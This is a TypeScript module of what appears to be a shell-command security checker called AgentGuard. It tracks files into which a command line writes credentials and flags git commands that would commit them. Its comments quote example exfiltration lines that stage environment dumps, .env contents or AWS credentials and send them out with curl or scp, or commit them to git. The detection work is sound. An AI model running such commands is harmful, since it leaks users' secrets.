// A credential written to a file earlier on the line and sent from there:
// `printenv > /tmp/e; curl -F f=@/tmp/e …`, `cat .env > a && curl -T a …`,
// `cp ~/.aws/credentials /tmp/c && scp /tmp/c host:`. The file's name says
// nothing; what the line wrote into it does. Every check that asks whether a
// word names a credential (common/credentials.ts) reads these files as such.
import { positionals } from '../../command/args';
import { homeOf, resolveWord } from '../../command/paths';
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { finding } from '../common/finding';
import { invocation } from '../common/git';
import { credentialIn, STAGED_PAST_BOUND } from '../common/credentials';
import { FILTERS, PRINTERS, secretRefs } from './common';
import { isEnvDump, tokenCliFinding } from './printed';
import { dumpedWhat } from './substitutions';

/** Files remembered per line; past it every file the line's later commands name may hold a credential (asked). */
const MAX_STAGED = 32;
/** Programs that write their input (or a file they read) to a file named in their words. */
const COPIES = new Set(['cp', 'install', 'mv', 'ln']);
/** Programs that only transform what they read (`base64 .env > x` holds .env all the same). */
const TRANSFORMERS = new Set(['gzip', 'bzip2', 'xz', 'zstd', 'gpg', 'openssl', 'base64', 'base32', 'xxd', 'tr']);

/** What a command prints that is a credential: an environment dump, a secret variable, a token, a credential file's content. */
function secretOutput(argv: readonly string[], cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
  const name = argv[0] ?? '';
  if (isEnvDump(argv)) return dumpedWhat(argv);
  if (name === 'echo' || name === 'printf') {
    const refs = secretRefs(argv.slice(1).join(' '));
    return refs.length ? '$' + refs[0] : undefined;
  }
  if (tokenCliFinding(name, argv)) return `the output of ${argv.slice(0, 3).join(' ')}`;
  if (!PRINTERS.has(name) && !FILTERS.has(name) && !TRANSFORMERS.has(name)) return undefined;
  const hit = credentialIn(
    argv.slice(1).filter((w) => !w.startsWith('-')),
    cmd,
    ctx,
  );
  return hit && (hit.holds ?? hit.shown);
}

/** The files a command writes and the credential each then holds. */
function writtenSecrets(cmd: SimpleCommand, ctx: AnalysisContext): Array<[string, string]> {
  const name = cmd.argv[0] ?? '';
  const out: Array<[string, string]> = [];
  if (COPIES.has(name)) {
    const pos = positionals(cmd.argv, ['-t', '--target-directory', '-m', '--mode', '-o', '-g', '-S', '--suffix']);
    const hit = pos.length >= 2 ? credentialIn(pos.slice(0, -1), cmd, ctx) : undefined;
    if (hit) {
      const dest = pos[pos.length - 1];
      const what = hit.holds ?? hit.shown;
      out.push([dest, what]);
      // `cp .env /tmp/`: the copy keeps its name inside the folder.
      out.push([dest.replace(/\/+$/, '') + '/' + (hit.word.split('/').pop() ?? ''), what]);
    }
    return out;
  }
  const files = cmd.redirects
    .filter((r) => (r.fd === 1 || r.op.startsWith('&')) && r.op !== '<' && r.op !== '<>' && !r.target.startsWith('&'))
    .map((r) => r.target);
  if (name === 'tee') files.push(...positionals(cmd.argv));
  // Most commands write no file: what they print is not looked at.
  if (files.length === 0) return out;
  const from = cmd.stdin === undefined ? (cmd.stdinOrigin ?? cmd.stdinFrom) : undefined;
  const what = secretOutput(cmd.argv, cmd, ctx) ?? (from ? secretOutput(from, cmd, ctx) : undefined);
  if (what) for (const f of files) out.push([f, what]);
  return out;
}

/**
 * The context the line's next commands are judged in: this one's, plus the
 * files the command just judged wrote a credential into.
 */
export function stagedAfter(cmd: SimpleCommand, ctx: AnalysisContext): AnalysisContext {
  if (cmd.argv.length === 0 || ctx.staged?.has(STAGED_PAST_BOUND)) return ctx;
  const written = writtenSecrets(cmd, ctx);
  if (written.length === 0) return ctx;
  const staged = new Map(ctx.staged ?? []);
  const home = homeOf(cmd.env, ctx);
  for (const [file, what] of written) {
    if (/[$`*?]/.test(file) || file.startsWith('/dev/')) continue;
    const abs = resolveWord(file, cmd.cwd, home).abs;
    if (staged.size < MAX_STAGED || staged.has(abs)) staged.set(abs, what);
    else {
      staged.set(
        STAGED_PAST_BOUND,
        `a credential, in one of more files than AgentGuard follows on one line (${MAX_STAGED})`,
      );
      break;
    }
  }
  return staged.size === (ctx.staged?.size ?? 0) ? ctx : { ...ctx, staged };
}

/** `-a`, `--all`, `-am msg`; not `-ma` (the message `a`) nor `--amend`. */
function commitsAll(opt: string): boolean {
  if (opt === '--all') return true;
  if (opt.startsWith('--')) return false;
  for (const c of opt.slice(1, 32)) {
    if (c === 'a') return true;
    if ('mFcCtS'.includes(c)) return false;
  }
  return false;
}

/**
 * `cat .env >> README.md && git commit -am x && git push`: a file of the
 * project the line just wrote a credential into, staged or committed. Once
 * committed the secret is in the history every clone and push carries.
 */
export function committedStagedFinding(cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  if (!ctx.staged?.size || cmd.argv[0] !== 'git') return undefined;
  const inv = invocation(cmd.argv);
  if (!inv) return undefined;
  const sub = inv.sub;
  const opts = inv.args.slice(1).filter((a) => a.startsWith('-'));
  const home = homeOf(cmd.env, ctx);
  const staged = ctx.staged;
  const under = (dir: string): [string, string] | undefined =>
    [...staged.entries()].find(([f]) => f === STAGED_PAST_BOUND || f.startsWith(dir + '/'));
  let hit: [string, string] | undefined;
  if (sub === 'add' || sub === 'stage') {
    const paths = positionals(inv.args);
    const all = paths.length === 0 || opts.some((a) => a === '-A' || a === '--all' || a === '-u' || a === '--update');
    for (const p of all ? ['.'] : paths.slice(0, 64)) {
      const abs = resolveWord(p, cmd.cwd, home).abs;
      const exact = staged.get(abs);
      hit ??= exact !== undefined ? [abs, exact] : under(abs);
    }
  } else if (sub === 'commit' && opts.some(commitsAll)) {
    hit = under(ctx.workspace) ?? under(cmd.cwd);
  }
  if (!hit) return undefined;
  const file = hit[0] === STAGED_PAST_BOUND ? 'a file' : hit[0];
  return finding(
    'secrets.copy-credential',
    70,
    `git ${sub} puts ${file}, holding ${hit[1]} written earlier on this line, into the repository's history`,
    file,
    'keep credentials out of tracked files; undo the write before committing',
  );
}
